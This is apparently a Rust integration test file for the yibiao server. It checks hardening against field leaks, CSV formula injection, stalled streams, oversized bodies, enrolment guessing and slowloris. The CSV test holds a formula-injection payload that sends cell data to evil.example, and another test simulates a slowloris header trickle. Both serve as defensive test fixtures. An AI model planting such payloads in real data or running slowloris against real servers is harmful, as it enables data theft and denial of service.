//! The edges issue 11 found open, each closed and held here: per-entity department views,
//! CSV formula cells, streams a client never reads, bodies refused from their headers,
//! enrolment guessing from one address, `/metrics` behind a token, private files on disk,
//! `/healthz` with the disk full. In-process through `app(state).oneshot(..)` where the
//! router is the point, the real binary (the kit's `ServerProcess`) where sockets are.

#![allow(clippy::unwrap_used, reason = "tests")]

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::Path;
use std::sync::Arc;
use std::time::{Duration, Instant};

use axum::body::Body;
use axum::extract::ConnectInfo;
use axum::http::{Request, StatusCode};
use http_body_util::BodyExt;
use serde_json::{Value, json};
use tower::ServiceExt;
use yibiao_model::clock::SystemClock;
use yibiao_model::{CadreId, FieldEdit, Schema, Value as V};
use yibiao_server::config::{Config, FileConfig, Overrides};
use yibiao_server::limits::ClientAddr;
use yibiao_server::{AppState, accounts, app};
use yibiao_store::Store;
use yibiao_sync::protocol::{PushDoc, SyncRequest, WireId, heads_to_wire};
use yibiao_sync::{DeviceAuth, DeviceScope};
use yibiao_testkit::server::{ServerOptions, ServerProcess};

const BINARY: &str = env!("CARGO_BIN_EXE_yibiao-server");

struct Fx {
    state: AppState,
    admin: String,
    dir: tempfile::TempDir,
}

fn fixture_with(file: FileConfig) -> Fx {
    let dir = tempfile::tempdir().unwrap();
    let over = Overrides {
        data_dir: Some(dir.path().join("data")),
        ..Overrides::default()
    };
    let config = Config::resolve(over, file).unwrap();
    let state = AppState::open(config, Schema::baru_example()).unwrap();
    let admin = accounts::rotate_admin_token(state.storage.as_ref()).unwrap();
    Fx { state, admin, dir }
}

fn fixture() -> Fx {
    fixture_with(FileConfig::default())
}

async fn send(fx: &Fx, req: Request<Body>) -> (StatusCode, Vec<u8>) {
    let resp = app(fx.state.clone()).oneshot(req).await.unwrap();
    let status = resp.status();
    (
        status,
        resp.into_body()
            .collect()
            .await
            .unwrap()
            .to_bytes()
            .to_vec(),
    )
}

async fn call(
    fx: &Fx,
    method: &str,
    uri: &str,
    token: Option<&str>,
    body: Option<Value>,
) -> (StatusCode, Vec<u8>) {
    let mut req = Request::builder().method(method).uri(uri);
    if let Some(t) = token {
        req = req.header("authorization", format!("Bearer {t}"));
    }
    let body = match body {
        Some(v) => {
            req = req.header("content-type", "application/json");
            Body::from(v.to_string())
        }
        None => Body::empty(),
    };
    send(fx, req.body(body).unwrap()).await
}

fn json_of(body: &[u8]) -> Value {
    serde_json::from_slice(body)
        .unwrap_or_else(|_| panic!("not JSON: {}", String::from_utf8_lossy(body)))
}

async fn dept_token(fx: &Fx, dept: &str) -> String {
    let (status, body) = call(
        fx,
        "POST",
        &format!("/v1/admin/departments/{dept}/tokens"),
        Some(&fx.admin),
        Some(json!({"name": "test"})),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED);
    json_of(&body)["token"].as_str().unwrap().to_owned()
}

fn phone(cadre: &str) -> Store {
    Store::open_in_memory(
        Arc::new(Schema::baru_example()),
        CadreId::new(cadre).unwrap(),
        Arc::new(SystemClock),
    )
    .unwrap()
}

/// Pushes every pending record of `store` straight into the hub as a township device,
/// a page of at most 500 documents at a time.
fn push_all(state: &AppState, store: &Store) {
    let pending = store.pending(100_000).unwrap();
    for page in pending.chunks(500) {
        let docs = page
            .iter()
            .map(|p| PushDoc {
                record: WireId::from(p.id),
                heads: heads_to_wire(&store.heads(p.id).unwrap()),
                bytes: store.export(p.id).unwrap(),
            })
            .collect();
        let req = SyncRequest {
            device: store.device_id().to_string(),
            cursor: 0,
            push: docs,
            max_response_bytes: 1 << 16,
            schema: None,
        };
        let auth = DeviceAuth {
            key: format!("test-{}", store.device_id()),
            scope: DeviceScope::Township,
            identity: yibiao_testkit::transport::identity_of(store),
        };
        let (resp, _) = state.hub.handle(&auth, &req).unwrap();
        assert!(resp.refused.is_empty(), "{:?}", resp.refused);
    }
}

fn set(f: &str, v: V) -> FieldEdit {
    FieldEdit::Set(f.into(), v)
}

const HOUSEHOLD_PHONE: &str = "13800000001";
const SITE_PHONE: &str = "13900000002";

#[tokio::test]
async fn emergency_management_reads_household_size_and_safety_but_not_phone_or_notes() {
    let fx = fixture();
    let a = phone("amu");
    a.create(
        "household",
        Some("tujiang"),
        &[
            set("household_head", V::Text("阿木".into())),
            set("household_size", V::Integer(4)),
            set("housing_safe", V::Boolean(false)),
            set("phone", V::Text(HOUSEHOLD_PHONE.into())),
            set("notes", V::Text("household-private note".into())),
        ],
    )
    .unwrap();
    a.create(
        "hazard_site",
        Some("tujiang"),
        &[
            set("hazard_type", V::Choice("landslide".into())),
            set("phone", V::Text(SITE_PHONE.into())),
            set("notes", V::Text("site note".into())),
        ],
    )
    .unwrap();
    push_all(&fx.state, &a);
    let em = dept_token(&fx, "emergency_management").await;

    let (status, body) = call(&fx, "GET", "/v1/records", Some(&em), None).await;
    assert_eq!(status, StatusCode::OK);
    let page = json_of(&body);
    let records = page["records"].as_array().unwrap();
    assert_eq!(records.len(), 2);
    for r in records {
        let keys: Vec<&str> = r["values"]
            .as_object()
            .unwrap()
            .keys()
            .map(String::as_str)
            .collect();
        match r["entity"].as_str().unwrap() {
            "household" => assert_eq!(keys, ["household_size", "housing_safe"]),
            "hazard_site" => {
                assert_eq!(r["values"]["phone"], json!(SITE_PHONE));
                assert_eq!(r["values"]["notes"], json!("site note"));
            }
            other => panic!("unexpected entity {other}"),
        }
    }
    // The same in every format: the household's phone and note appear nowhere.
    for uri in ["/v1/records.ndjson", "/v1/records.csv", "/v1/feed"] {
        let (status, body) = call(&fx, "GET", uri, Some(&em), None).await;
        assert_eq!(status, StatusCode::OK, "{uri}");
        let text = String::from_utf8(body).unwrap();
        assert!(
            !text.contains(HOUSEHOLD_PHONE),
            "{uri} leaks the phone:\n{text}"
        );
        assert!(
            !text.contains("household-private"),
            "{uri} leaks the note:\n{text}"
        );
        assert!(
            text.contains(SITE_PHONE),
            "{uri} lacks the site's phone:\n{text}"
        );
    }
}

#[tokio::test]
async fn csv_cells_that_a_spreadsheet_would_run_are_quoted() {
    let fx = fixture();
    let a = phone("amu");
    let formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")";
    a.create(
        "household",
        Some("tujiang"),
        &[
            set("household_head", V::Text("@SUM(1+1)".into())),
            set("household_size", V::Integer(3)),
            set("address", V::Text("-2+3".into())),
            set("notes", V::Text(formula.into())),
        ],
    )
    .unwrap();
    push_all(&fx.state, &a);
    let public = dept_token(&fx, "public_services").await;
    let (status, body) = call(&fx, "GET", "/v1/records.csv", Some(&public), None).await;
    assert_eq!(status, StatusCode::OK);
    let body = body.strip_prefix(b"\xEF\xBB\xBF".as_slice()).unwrap();
    let mut rows = csv::Reader::from_reader(body);
    let header: Vec<String> = rows.headers().unwrap().iter().map(str::to_owned).collect();
    let column = |key: &str| {
        header
            .iter()
            .position(|h| h.ends_with(&format!(" {key}")))
            .unwrap_or_else(|| panic!("no column {key} in {header:?}"))
    };
    let row = rows.records().next().unwrap().unwrap();
    assert_eq!(&row[column("notes")], format!("'{formula}"));
    assert_eq!(&row[column("household_head")], "'@SUM(1+1)");
    assert_eq!(&row[column("address")], "'-2+3");
    // A number stays a number.
    assert_eq!(&row[column("household_size")], "3");
}

/// Writes `data_dir` with `records` households of long notes (about 4 KB each), so one
/// stream of them is far more than socket buffers hold.
fn seed_many(data_dir: &Path, records: usize) {
    let config = Config::resolve(
        Overrides {
            data_dir: Some(data_dir.to_owned()),
            ..Overrides::default()
        },
        FileConfig::default(),
    )
    .unwrap();
    let state = AppState::open(config, Schema::baru_example()).unwrap();
    let a = phone("amu");
    let note: String = "𝄞".repeat(1000);
    for i in 0..records {
        a.create(
            "household",
            Some("tujiang"),
            &[
                set("household_head", V::Text(format!("户主{i}"))),
                set("notes", V::Text(note.clone())),
            ],
        )
        .unwrap();
    }
    push_all(&state, &a);
}

/// A raw HTTP/1.1 request on a fresh connection; the response is not read.
fn raw_request(addr: SocketAddr, head: &str) -> TcpStream {
    let mut s = TcpStream::connect(addr).unwrap();
    s.write_all(head.as_bytes()).unwrap();
    s
}

/// Reads what `s` gives until it ends (EOF or error) or `limit` passes.
fn read_until_end(s: &mut TcpStream, limit: Duration) -> Vec<u8> {
    s.set_read_timeout(Some(Duration::from_millis(500)))
        .unwrap();
    let started = Instant::now();
    let mut got = Vec::new();
    let mut buf = vec![0u8; 1 << 16];
    while started.elapsed() < limit {
        match s.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => got.extend_from_slice(&buf[..n]),
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
            Err(e) if e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(_) => break,
        }
    }
    got
}

/// `GET /healthz` on a fresh connection, answered within a generous deadline.
fn healthz_status(addr: SocketAddr) -> Option<u16> {
    let mut s = raw_request(
        addr,
        "GET /healthz HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n",
    );
    let text = read_until_end(&mut s, Duration::from_secs(10));
    let text = String::from_utf8_lossy(&text);
    text.split(' ').nth(1)?.parse().ok()
}

#[test]
fn a_stream_nobody_reads_is_dropped_and_healthz_keeps_answering() {
    const RECORDS: usize = 1500;
    const STALLED: usize = 12;
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    seed_many(&data, RECORDS);
    let config = dir.path().join("server.toml");
    std::fs::write(
        &config,
        "write_timeout_secs = 2\nmax_streams_per_token = 64\nmax_streams = 64\n",
    )
    .unwrap();
    let server = ServerProcess::start(
        Path::new(BINARY),
        &data,
        ServerOptions {
            config: Some(config),
            ..ServerOptions::default()
        },
    )
    .unwrap();
    let token = server.department_token("public_services", "t").unwrap();
    let request = format!(
        "GET /v1/records.ndjson HTTP/1.1\r\nHost: t\r\nAuthorization: Bearer {token}\r\n\r\n"
    );
    let mut stalled: Vec<TcpStream> = (0..STALLED)
        .map(|_| raw_request(server.addr(), &request))
        .collect();
    // While they sit unread, the server answers others at once.
    for _ in 0..3 {
        assert_eq!(healthz_status(server.addr()), Some(200));
        std::thread::sleep(Duration::from_millis(300));
    }
    // Past the write deadline, every stalled stream has been cut: reading now gives what
    // sat in socket buffers, then the end, never all the records.
    std::thread::sleep(Duration::from_secs(8));
    for s in &mut stalled {
        let got = read_until_end(s, Duration::from_secs(60));
        let text = String::from_utf8_lossy(&got);
        assert!(
            text.starts_with("HTTP/1.1 200"),
            "{}",
            &text[..text.len().min(200)]
        );
        let records = text.matches("\"entity\":\"household\"").count();
        assert!(
            records < RECORDS,
            "a stalled stream was kept open and sent all {records} records"
        );
        assert!(
            !text.ends_with("\r\n0\r\n\r\n"),
            "the cut stream looks complete"
        );
    }
    // A client that reads gets everything.
    let mut reader = raw_request(
        server.addr(),
        &request.replace("\r\n\r\n", "\r\nConnection: close\r\n\r\n"),
    );
    let got = read_until_end(&mut reader, Duration::from_secs(120));
    let text = String::from_utf8_lossy(&got);
    assert_eq!(text.matches("\"entity\":\"household\"").count(), RECORDS);
    assert_eq!(healthz_status(server.addr()), Some(200));
}

#[test]
fn bodies_are_refused_from_their_headers_before_they_are_read() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let server = ServerProcess::start(Path::new(BINARY), &data, ServerOptions::default()).unwrap();
    let admin = std::fs::read_to_string(data.join("admin-token")).unwrap();
    let admin = admin.trim();
    // Each announces a large body and sends none of it: an answer proves nothing was
    // waited for. Generous deadline; a server that reads first never answers.
    let cases = [
        (
            "POST /v1/sync HTTP/1.1\r\nHost: t\r\nAuthorization: Bearer ybd_wrong\r\nContent-Type: application/x-yibiao-sync\r\nContent-Length: 8000000\r\n\r\n".to_owned(),
            "401",
        ),
        (
            "POST /v1/tasks HTTP/1.1\r\nHost: t\r\nAuthorization: Bearer ybk_wrong\r\nContent-Type: application/json\r\nContent-Length: 4000000\r\n\r\n".to_owned(),
            "401",
        ),
        (
            format!("POST /v1/tasks HTTP/1.1\r\nHost: t\r\nAuthorization: Bearer {admin}\r\nContent-Type: application/json\r\nContent-Length: 2000000\r\n\r\n"),
            "413",
        ),
    ];
    for (head, want) in cases {
        let mut s = raw_request(server.addr(), &head);
        let got = read_until_end(&mut s, Duration::from_secs(15));
        let text = String::from_utf8_lossy(&got);
        assert!(
            text.starts_with(&format!("HTTP/1.1 {want}")),
            "{}: {text}",
            head.lines().next().unwrap()
        );
        assert!(text.contains("\"error\""), "{text}");
    }
}

async fn enrol_from(fx: &Fx, ip: [u8; 4], code: &str) -> StatusCode {
    let mut req = Request::post("/v1/enrol")
        .header("content-type", "application/json")
        .body(Body::from(
            json!({"code": code, "device": format!("phone-{}", ip[3])}).to_string(),
        ))
        .unwrap();
    req.extensions_mut()
        .insert(ConnectInfo(ClientAddr(SocketAddr::from((ip, 40000)))));
    send(fx, req).await.0
}

#[tokio::test]
async fn wrong_codes_from_one_address_do_not_lock_out_another() {
    let fx = fixture();
    accounts::create_cadre(
        fx.state.storage.as_ref(),
        fx.state.hub.schema(),
        "amu",
        "阿木",
        Some("tujiang"),
    )
    .unwrap();
    let (code, _) = accounts::issue_code(fx.state.storage.as_ref(), "amu", 60).unwrap();
    let mut refused = 0;
    for _ in 0..25 {
        match enrol_from(&fx, [10, 0, 0, 1], "AAAA-BBBB").await {
            StatusCode::UNAUTHORIZED => {}
            StatusCode::TOO_MANY_REQUESTS => refused += 1,
            other => panic!("wrong code answered {other}"),
        }
    }
    assert!(refused > 0, "one address may guess without bound");
    assert_eq!(
        enrol_from(&fx, [10, 0, 0, 2], &code).await,
        StatusCode::OK,
        "another address was locked out"
    );
}

#[tokio::test]
async fn metrics_take_the_admin_token_or_the_metrics_token() {
    let fx = fixture_with(FileConfig {
        metrics_token: Some("scraper-secret-0123456789".into()),
        ..FileConfig::default()
    });
    assert_eq!(
        call(&fx, "GET", "/metrics", None, None).await.0,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        call(&fx, "GET", "/metrics", Some("yba_wrong"), None)
            .await
            .0,
        StatusCode::UNAUTHORIZED
    );
    let public = dept_token(&fx, "public_services").await;
    assert_eq!(
        call(&fx, "GET", "/metrics", Some(&public), None).await.0,
        StatusCode::UNAUTHORIZED
    );
    for token in [fx.admin.as_str(), "scraper-secret-0123456789"] {
        let (status, body) = call(&fx, "GET", "/metrics", Some(token), None).await;
        assert_eq!(status, StatusCode::OK);
        assert!(
            String::from_utf8(body)
                .unwrap()
                .contains("yibiao_syncs_total")
        );
    }
}

#[cfg(unix)]
#[test]
fn the_data_dir_database_and_admin_token_are_private() {
    use std::os::unix::fs::PermissionsExt;
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    // The kit creates the directory with the default umask: the server narrows it.
    let server = ServerProcess::start(Path::new(BINARY), &data, ServerOptions::default()).unwrap();
    assert_eq!(healthz_status(server.addr()), Some(200));
    assert_eq!(mode(&data), 0o700, "data dir");
    assert_eq!(mode(&data.join("admin-token")), 0o600, "admin-token");
    for name in ["yibiao.db", "yibiao.db-wal", "yibiao.db-shm"] {
        let p = data.join(name);
        if name == "yibiao.db" || p.exists() {
            assert_eq!(mode(&p), 0o600, "{name}");
        }
    }
    // No temporary file is left beside the token.
    let leftovers: Vec<_> = std::fs::read_dir(&data)
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().contains("tmp"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[tokio::test]
async fn healthz_is_not_ok_when_the_disk_is_full() {
    // No test can fill the disk; a threshold above any disk's size reads the same.
    let fx = fixture_with(FileConfig {
        min_free_disk_bytes: Some(u64::MAX),
        ..FileConfig::default()
    });
    let (status, body) = call(&fx, "GET", "/healthz", None, None).await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE);
    assert_eq!(json_of(&body)["status"], json!("disk_full"));
    let ok = fixture();
    let (status, body) = call(&ok, "GET", "/healthz", None, None).await;
    assert_eq!(status, StatusCode::OK);
    assert!(json_of(&body)["free_disk_bytes"].as_u64().unwrap() > 0);
    drop(fx.dir);
}

#[tokio::test]
async fn a_token_may_hold_only_its_share_of_streams() {
    let fx = fixture_with(FileConfig {
        max_streams_per_token: Some(1),
        ..FileConfig::default()
    });
    let public = dept_token(&fx, "public_services").await;
    let open = |uri: &'static str| {
        let req = Request::get(uri)
            .header("authorization", format!("Bearer {public}"))
            .body(Body::empty())
            .unwrap();
        app(fx.state.clone()).oneshot(req)
    };
    let first = open("/v1/records.ndjson").await.unwrap();
    assert_eq!(first.status(), StatusCode::OK);
    let second = open("/v1/records.csv").await.unwrap();
    assert_eq!(second.status(), StatusCode::TOO_MANY_REQUESTS);
    // Another department's token is not held back by this one's stream.
    let other = dept_token(&fx, "emergency_management").await;
    assert_eq!(
        call(&fx, "GET", "/v1/records.ndjson", Some(&other), None)
            .await
            .0,
        StatusCode::OK
    );
    drop(first);
    assert_eq!(
        open("/v1/records.csv").await.unwrap().status(),
        StatusCode::OK
    );
}

#[tokio::test]
async fn a_new_code_ends_the_old_one_and_codes_can_be_revoked() {
    let fx = fixture();
    accounts::create_cadre(
        fx.state.storage.as_ref(),
        fx.state.hub.schema(),
        "amu",
        "阿木",
        Some("tujiang"),
    )
    .unwrap();
    let issue = || async {
        let (status, body) = call(
            &fx,
            "POST",
            "/v1/admin/cadres/amu/codes",
            Some(&fx.admin),
            None,
        )
        .await;
        assert_eq!(status, StatusCode::CREATED);
        json_of(&body)["code"].as_str().unwrap().to_owned()
    };
    let old = issue().await;
    let new = issue().await;
    assert_eq!(
        enrol_from(&fx, [10, 0, 0, 1], &old).await,
        StatusCode::UNAUTHORIZED,
        "the older code still works"
    );
    let revoked = issue().await;
    let (status, body) = call(
        &fx,
        "POST",
        "/v1/admin/cadres/amu/codes/revoke",
        Some(&fx.admin),
        None,
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(json_of(&body)["revoked"], json!(1));
    for code in [new, revoked] {
        assert_eq!(
            enrol_from(&fx, [10, 0, 0, 3], &code).await,
            StatusCode::UNAUTHORIZED
        );
    }
    assert_eq!(
        call(
            &fx,
            "POST",
            "/v1/admin/cadres/nobody/codes/revoke",
            Some(&fx.admin),
            None
        )
        .await
        .0,
        StatusCode::NOT_FOUND
    );
}

#[tokio::test]
async fn past_the_in_flight_limit_the_server_answers_busy_at_once() {
    let fx = fixture_with(FileConfig {
        max_in_flight: Some(1),
        ..FileConfig::default()
    });
    let (_, token) = accounts::register_device(
        fx.state.storage.as_ref(),
        fx.state.hub.schema(),
        "p",
        None,
        Some("tujiang"),
    )
    .unwrap();
    // A sync whose body never comes holds the one slot (its token passed; it waits for
    // the body).
    let (tx, rx) = tokio::sync::mpsc::channel::<Result<axum::body::Bytes, std::io::Error>>(1);
    let slow = Request::post("/v1/sync")
        .header("authorization", format!("Bearer {token}"))
        .body(Body::from_stream(
            tokio_stream::wrappers::ReceiverStream::new(rx),
        ))
        .unwrap();
    let held = tokio::spawn(app(fx.state.clone()).oneshot(slow));
    // Once it holds the slot (and only then), another request is refused.
    for _ in 0..200 {
        if fx.state.guards.in_flight.available_permits() == 0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    let mut answered = None;
    for _ in 0..100 {
        let (status, body) = call(&fx, "GET", "/healthz", None, None).await;
        if status == StatusCode::SERVICE_UNAVAILABLE {
            answered = Some(json_of(&body));
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    if answered.is_none() && held.is_finished() {
        let resp = held.await.unwrap().unwrap();
        let status = resp.status();
        let body = resp.into_body().collect().await.unwrap().to_bytes();
        panic!(
            "the held sync ended: {status} {}",
            String::from_utf8_lossy(&body)
        );
    }
    let body = answered.expect("the second request was not refused");
    assert_eq!(body["error"]["code"], json!("busy"));
    drop(tx);
    let _ = held.await.unwrap();
    assert_eq!(
        call(&fx, "GET", "/healthz", None, None).await.0,
        StatusCode::OK
    );
}

#[tokio::test]
async fn a_task_target_outside_the_view_reads_as_absent_whatever_it_is() {
    // Baru, with social governance (grid patrol of households) narrowed to one village.
    let text = yibiao_model::schema::BARU_TOML.replace(
        "forms = [\"grid_patrol\"]\nvillages = [\"*\"]",
        "forms = [\"grid_patrol\"]\nvillages = [\"tujiang\"]",
    );
    let schema = Schema::from_toml_str(&text, "baru.toml").unwrap();
    assert!(
        !schema
            .department("social_governance")
            .unwrap()
            .sees_village(Some("baru"))
    );
    let dir = tempfile::tempdir().unwrap();
    let config = Config::resolve(
        Overrides {
            data_dir: Some(dir.path().to_owned()),
            ..Overrides::default()
        },
        FileConfig::default(),
    )
    .unwrap();
    let state = AppState::open(config, schema).unwrap();
    let admin = accounts::rotate_admin_token(state.storage.as_ref()).unwrap();
    let fx = Fx { state, admin, dir };
    let a = phone("amu");
    let site = a
        .create(
            "hazard_site",
            Some("baru"),
            &[set("hazard_type", V::Choice("landslide".into()))],
        )
        .unwrap();
    let house = a
        .create(
            "household",
            Some("baru"),
            &[set("household_head", V::Text("吉克".into()))],
        )
        .unwrap();
    push_all(&fx.state, &a);
    let issuer = dept_token(&fx, "social_governance").await;
    let unknown = "0190b1a0-0000-7000-8000-000000000000";
    let mut answers = Vec::new();
    for id in [site.to_string(), house.to_string(), unknown.to_owned()] {
        let (status, body) = call(
            &fx,
            "POST",
            "/v1/tasks",
            Some(&issuer),
            Some(json!({
                "title": "t", "form": "grid_patrol", "due": "2030-01-01", "records": [id],
            })),
        )
        .await;
        let message = json_of(&body)["error"]["message"]
            .as_str()
            .unwrap()
            .replace(&id, "<id>");
        answers.push((status, message));
    }
    // A wrong entity type, another village, no record at all: one answer.
    assert_eq!(answers[0].0, StatusCode::NOT_FOUND, "{answers:?}");
    assert!(answers.iter().all(|a| *a == answers[0]), "{answers:?}");
}

#[test]
fn a_client_trickling_its_headers_is_cut_and_honest_requests_still_pass() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("server.toml");
    std::fs::write(&config, "header_read_timeout_secs = 1\n").unwrap();
    let server = ServerProcess::start(
        Path::new(BINARY),
        &dir.path().join("data"),
        ServerOptions {
            config: Some(config),
            ..ServerOptions::default()
        },
    )
    .unwrap();
    // Slowloris: a request line, then one header byte every 200 ms. Every byte is
    // progress, so only a deadline on the headers as a whole ends it; without one the
    // connection is still open after 30 s of trickling.
    let mut slow = raw_request(server.addr(), "GET /healthz HTTP/1.1\r\nHost: t\r\n");
    slow.set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    let mut buf = [0u8; 512];
    let mut answered = Vec::new();
    let mut cut = false;
    for byte in b"X-Slow: ".iter().chain(std::iter::repeat(&b'a')).take(150) {
        if slow.write_all(&[*byte]).is_err() {
            cut = true;
            break;
        }
        match slow.read(&mut buf) {
            Ok(0) => {
                cut = true;
                break;
            }
            Ok(n) => answered.extend_from_slice(&buf[..n]),
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) => {}
            Err(_) => {
                cut = true;
                break;
            }
        }
    }
    assert!(
        cut,
        "a client sending its headers a byte at a time for 30 s kept its connection"
    );
    let answered = String::from_utf8_lossy(&answered);
    assert!(
        !answered.starts_with("HTTP/1.1 200"),
        "a half-sent request was answered: {answered}"
    );
    // An honest request, on its own connection, is answered as ever.
    assert_eq!(healthz_status(server.addr()), Some(200));
}

#[test]
fn the_merge_budgets_come_from_the_config_file() {
    // A 4 KB note (1,000 characters, the schema's most) passes the default 16 KiB value
    // budget and is refused under a configured 1 KiB.
    let note = "𝄞".repeat(1000);
    let push_note = |file: FileConfig| {
        let fx = fixture_with(file);
        let a = phone("amu");
        a.create(
            "household",
            Some("tujiang"),
            &[
                set("household_head", V::Text("阿木".into())),
                set("notes", V::Text(note.clone())),
            ],
        )
        .unwrap();
        let p = &a.pending(10).unwrap()[0];
        let req = SyncRequest {
            device: a.device_id().to_string(),
            cursor: 0,
            push: vec![PushDoc {
                record: WireId::from(p.id),
                heads: heads_to_wire(&a.heads(p.id).unwrap()),
                bytes: a.export(p.id).unwrap(),
            }],
            max_response_bytes: 1 << 16,
            schema: None,
        };
        let auth = DeviceAuth {
            key: "k".into(),
            scope: DeviceScope::Township,
            identity: yibiao_testkit::transport::identity_of(&a),
        };
        fx.state.hub.handle(&auth, &req).unwrap().0
    };
    let default = push_note(FileConfig::default());
    assert!(default.refused.is_empty(), "{:?}", default.refused);
    let small = push_note(FileConfig {
        budget_value_bytes: Some(1024),
        ..FileConfig::default()
    });
    assert_eq!(small.refused.len(), 1, "{small:?}");
    assert!(
        small.refused[0].message.contains("1 KiB"),
        "{:?}",
        small.refused[0]
    );
}
